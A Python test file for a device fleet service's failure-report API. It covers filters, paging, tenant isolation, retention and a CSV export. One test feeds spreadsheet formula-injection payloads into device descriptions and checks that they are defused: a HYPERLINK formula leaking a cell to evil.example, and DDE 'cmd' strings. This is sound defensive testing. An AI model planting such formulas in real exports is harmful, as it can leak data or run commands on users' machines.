"""Reading failure reports back (docs/failures.md §2): the listing and each filter,
keyset pages, the CSV error report (columns, times, CSV injection, the row cap) and
the retention sweep."""

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from sevenfold.protocol.clock import ManualClock
from sevenfold.protocol.failures import (
    CSV_COLUMNS,
    MAX_DESCRIPTION_CHARS,
    FailureBatch,
    FailureEvent,
    FailureKind,
)
from sevenfold.service.db.engine import make_session_factory
from sevenfold.service.failures import report, retention, service
from sevenfold.service.failures.models import FailureEventRecord
from sevenfold.service.failures.retention import FailureEventSweeper
from sevenfold.service.releases.models import OsRelease
from tests.api.failure_support import (
    EVENTS,
    REPORT_CSV,
    Reporter,
    failure,
    reporter,
    reporter_of,
)
from tests.api.update_support import add_release, settings
from tests.conftest import TenantAccess
from tests.support.fleet import assert_problem

__all__ = ["settings"]


class Fleet:
    """Two devices of one tenant (each in its own product and group) and the
    events they reported, by name."""

    def __init__(
        self,
        app: FastAPI,
        client: TestClient,
        admin: TenantAccess,
        clock: ManualClock,
    ) -> None:
        add_release(app, clock, "26.1")
        with make_session_factory(app.state.sevenfold.engine)() as session:
            self.release_id = session.scalars(
                select(OsRelease.id).where(OsRelease.version == "26.1")
            ).one()
        self.one = reporter(app, client, admin, clock, uds=b"\x01" * 32)
        self.two = reporter(app, client, admin, clock, uds=b"\x02" * 32)
        self.image_id = str(uuid.uuid4())
        start = clock.now()
        self.events: dict[str, FailureEvent] = {
            "crash": failure(start - timedelta(hours=5), image_id=self.image_id),
            "update": failure(
                start - timedelta(hours=4),
                FailureKind.UPDATE_FAILURE,
                os_version="26.1",
            ),
            "rollback": failure(start - timedelta(hours=3), FailureKind.ROLLBACK),
            "network": failure(start - timedelta(hours=2), FailureKind.NETWORK_FAILURE),
        }
        self.one.send(self.events["crash"], self.events["update"])
        self.two.send(self.events["rollback"], self.events["network"])
        self.groups = {
            name: client.get(
                f"/api/v1/devices/{device.device_id}", headers=admin.headers
            ).json()["device_group_id"]
            for name, device in (("one", self.one), ("two", self.two))
        }

    def names(self, items: list[dict[str, Any]]) -> list[str]:
        """The names of the listed events, in listed order."""
        by_id = {event.event_id: name for name, event in self.events.items()}
        return [by_id[item["event_id"]] for item in items]


@pytest.fixture
def fleet(
    app: FastAPI, client: TestClient, admin: TenantAccess, clock: ManualClock
) -> Fleet:
    """Two reporting devices and four events."""
    return Fleet(app, client, admin, clock)


def _list(client: TestClient, admin: TenantAccess, **params: Any) -> Any:
    response = client.get(EVENTS, params=params, headers=admin.headers)
    assert response.status_code == 200, response.text
    return response.json()


def test_listing_is_newest_first_with_every_field(
    client: TestClient, admin: TenantAccess, fleet: Fleet
) -> None:
    page = _list(client, admin)
    assert fleet.names(page["items"]) == ["network", "rollback", "update", "crash"]
    assert page["next_cursor"] is None
    update = page["items"][2]
    assert update["device_id"] == fleet.one.device_id
    assert update["product_id"] == fleet.one.product_id
    assert update["device_group_id"] == fleet.groups["one"]
    assert update["os_release_id"] == fleet.release_id
    assert (update["kind"], update["event_type"], update["event_class"]) == (
        "update-failure",
        "unplanned",
        "os",
    )
    assert update["count"] == 1
    assert update["event_key"] == "update-failure:test"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("device_id", ["update", "crash"]),
        ("device_group_id", ["network", "rollback"]),
        ("product_id", ["update", "crash"]),
        ("os_release_id", ["update"]),
        ("image_id", ["crash"]),
        ("kind", ["rollback"]),
        ("since", ["network", "rollback"]),
        ("until", ["update", "crash"]),
    ],
)
def test_each_filter_narrows_the_listing(
    client: TestClient,
    admin: TenantAccess,
    fleet: Fleet,
    clock: ManualClock,
    name: str,
    expected: list[str],
) -> None:
    values = {
        "device_id": fleet.one.device_id.upper(),  # either case names the device
        "device_group_id": fleet.groups["two"],
        "product_id": fleet.one.product_id,
        "os_release_id": fleet.release_id,
        "image_id": fleet.image_id,
        "kind": "rollback",
        "since": (clock.now() - timedelta(hours=3)).isoformat(),  # inclusive
        "until": (clock.now() - timedelta(hours=3)).isoformat(),  # exclusive
    }
    page = _list(client, admin, **{name: values[name]})
    assert fleet.names(page["items"]) == expected


def test_filters_combine(
    client: TestClient, admin: TenantAccess, fleet: Fleet, clock: ManualClock
) -> None:
    page = _list(
        client,
        admin,
        device_id=fleet.one.device_id,
        kind="app-crash",
        since=(clock.now() - timedelta(days=1)).isoformat(),
    )
    assert fleet.names(page["items"]) == ["crash"]


def test_pages_neither_repeat_nor_skip_events_with_equal_times(
    client: TestClient, admin: TenantAccess, fleet: Fleet, clock: ManualClock
) -> None:
    same_time = [failure(clock.now()) for _ in range(3)]
    fleet.one.send(*same_time)
    seen: list[str] = []
    params: dict[str, Any] = {"limit": 2}
    while True:
        page = _list(client, admin, **params)
        seen.extend(item["event_id"] for item in page["items"])
        if page["next_cursor"] is None:
            break
        params["cursor"] = page["next_cursor"]
    assert len(seen) == len(set(seen)) == 7
    assert set(seen[:3]) == {event.event_id for event in same_time}
    assert fleet.names([{"event_id": i} for i in seen[3:]]) == [
        "network", "rollback", "update", "crash",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "params",
    [
        {"since": "2026-11-25T12:00:00"},  # no time zone: which day is meant?
        {"kind": "meltdown"},
        {"device_id": "zz" * 64},
        {"cursor": "bm90LWEtY3Vyc29y"},  # base64 of a key that is no position
        {"limit": 1001},
    ],
)
def test_bad_query_is_a_validation_problem(
    client: TestClient, admin: TenantAccess, params: dict[str, Any]
) -> None:
    assert_problem(
        client.get(EVENTS, params=params, headers=admin.headers),
        422,
        "validation-error",
    )


def test_listing_needs_a_token(client: TestClient) -> None:
    assert_problem(client.get(EVENTS), 401, "unauthenticated")
    assert_problem(client.get(REPORT_CSV), 401, "unauthenticated")


def _rows(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    return list(csv.reader(io.StringIO(response.text)))


def test_error_report_has_azure_sphere_columns_and_utc_times(
    client: TestClient, admin: TenantAccess, fleet: Fleet
) -> None:
    rows = _rows(client.get(REPORT_CSV, headers=admin.headers))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) == 5
    network = fleet.events["network"]
    assert rows[1] == [
        fleet.two.device_id,
        "unplanned",
        "os",
        "network-failure",
        "1",
        network.description,
        network.first_at.isoformat().replace("+00:00", "Z"),
        network.last_at.isoformat().replace("+00:00", "Z"),
    ]
    filtered = _rows(
        client.get(REPORT_CSV, params={"kind": "app-crash"}, headers=admin.headers)
    )
    assert [row[3] for row in filtered[1:]] == ["app-crash"]


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ],
)
def test_csv_injection_in_a_device_description_is_defused(
    client: TestClient,
    admin: TenantAccess,
    clock: ManualClock,
    app: FastAPI,
    payload: str,
) -> None:
    device = reporter(app, client, admin, clock)
    device.send(failure(clock.now(), description=payload))
    rows = _rows(client.get(REPORT_CSV, headers=admin.headers))
    assert rows[1][5] == "'" + payload


@given(description=st.text(max_size=MAX_DESCRIPTION_CHARS))
def test_csv_injection_is_defused_for_any_description(description: str) -> None:
    """Whatever a device writes, the report parses back to the same cells, and no
    cell begins with a character a spreadsheet would start a formula with."""
    now = datetime(2026, 11, 25, 12, tzinfo=UTC)
    record = FailureEventRecord(
        id=1, device_id="ab" * 64, event_id="cd" * 16, kind="app-crash",
        event_type="unplanned", event_class="application", event_key="k", count=3,
        first_at=now, last_at=now, description=description, received_at=now,
    )  # fmt: skip
    text = b"".join(report.csv_lines([record])).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) == 2
    cell = rows[1][5]
    assert cell in (description, "'" + description)
    assert (cell != description) == description.startswith(
        ("=", "+", "-", "@", "\t", "\r")
    )
    assert not any(value.startswith(("=", "+", "-", "@")) for value in rows[1])


def test_csv_keeps_separators_quotes_and_line_breaks_inside_one_cell(
    client: TestClient, admin: TenantAccess, clock: ManualClock, app: FastAPI
) -> None:
    device = reporter(app, client, admin, clock)
    text = 'crashed, said "no"\r\nand then,\nexited'
    device.send(failure(clock.now(), description=text))
    rows = _rows(client.get(REPORT_CSV, headers=admin.headers))
    assert len(rows) == 2
    assert rows[1][5] == text


def test_error_report_is_capped_and_read_in_chunks(
    client: TestClient,
    admin: TenantAccess,
    fleet: Fleet,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(service, "READ_CHUNK_ROWS", 2)
    every = _rows(client.get(REPORT_CSV, headers=admin.headers))
    assert [row[3] for row in every[1:]] == [
        "network-failure", "rollback", "update-failure", "app-crash",
    ]  # fmt: skip
    monkeypatch.setattr(report, "MAX_REPORT_ROWS", 3)
    capped = _rows(client.get(REPORT_CSV, headers=admin.headers))
    assert capped[1:] == every[1:4]


def test_other_tenant_sees_none_of_the_events_in_list_or_report(
    app: FastAPI,
    client: TestClient,
    admin: TenantAccess,
    other_tenant: TenantAccess,
    fleet: Fleet,
    clock: ManualClock,
) -> None:
    theirs = reporter_of(
        app, client, platform=admin, owner=other_tenant, clock=clock,
        uds=b"\x03" * 32, product_name="Fabrikam gateway",
    )  # fmt: skip
    theirs.send(failure(clock.now()))
    for params in (
        {},
        {"device_id": fleet.one.device_id},
        {"product_id": fleet.one.product_id},
        {"device_group_id": fleet.groups["one"]},
        {"image_id": fleet.image_id},
    ):
        page = _list(client, other_tenant, **params)
        assert {item["device_id"] for item in page["items"]} <= {theirs.device_id}
        rows = _rows(
            client.get(REPORT_CSV, params=params, headers=other_tenant.headers)
        )
        assert {row[0] for row in rows[1:]} <= {theirs.device_id}
    assert len(_list(client, other_tenant)["items"]) == 1
    assert len(_list(client, admin)["items"]) == 4


def test_retention_sweep_deletes_events_received_before_the_window(
    app: FastAPI, client: TestClient, admin: TenantAccess, clock: ManualClock
) -> None:
    device: Reporter = reporter(app, client, admin, clock)
    factory = make_session_factory(app.state.sevenfold.engine)
    who = service.Reporter(
        device_id=device.device_id,
        tenant_id=admin.tenant_id,
        product_id=device.product_id,
        device_group_id=None,
    )

    def ingest(*events: FailureEvent) -> int:
        with factory() as session:
            result = service.ingest_batch(
                session=session,
                clock=clock,
                reporter=who,
                batch=FailureBatch(events=events),
            )
        return len(result.stored)

    old = failure(clock.now())
    device.send(old)
    clock.advance(timedelta(days=89).total_seconds())
    # Received now, though it says it happened long ago (a backlog, or a device
    # whose clock is wrong): its age counts from its arrival.
    backlog = failure(clock.now() - timedelta(days=400))
    assert ingest(backlog) == 1
    sweeper = FailureEventSweeper(
        session_factory=factory,
        clock=clock,
        retention_days=app.state.sevenfold.settings.failure_event_retention_days,
    )
    assert sweeper.run_once() == 0
    clock.advance(timedelta(days=1, seconds=1).total_seconds())
    assert sweeper.run_once() == 1
    assert sweeper.run_once() == 0
    with factory() as session:
        left = list(session.scalars(select(FailureEventRecord.event_id)))
    assert left == [backlog.event_id]
    # The device may re-send the swept record; it is then stored again (once).
    assert ingest(old) == 1
    assert ingest(old) == 0


def test_retention_sweep_deletes_in_chunks(
    app: FastAPI,
    client: TestClient,
    admin: TenantAccess,
    clock: ManualClock,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    device = reporter(app, client, admin, clock)
    device.send(*(failure(clock.now()) for _ in range(5)))
    monkeypatch.setattr(retention, "DELETE_CHUNK_ROWS", 2)
    clock.advance(timedelta(days=91).total_seconds())
    with make_session_factory(app.state.sevenfold.engine)() as session:
        assert retention.delete_expired(session, clock, retention_days=90) == 5
        assert session.scalars(select(FailureEventRecord.id)).all() == []
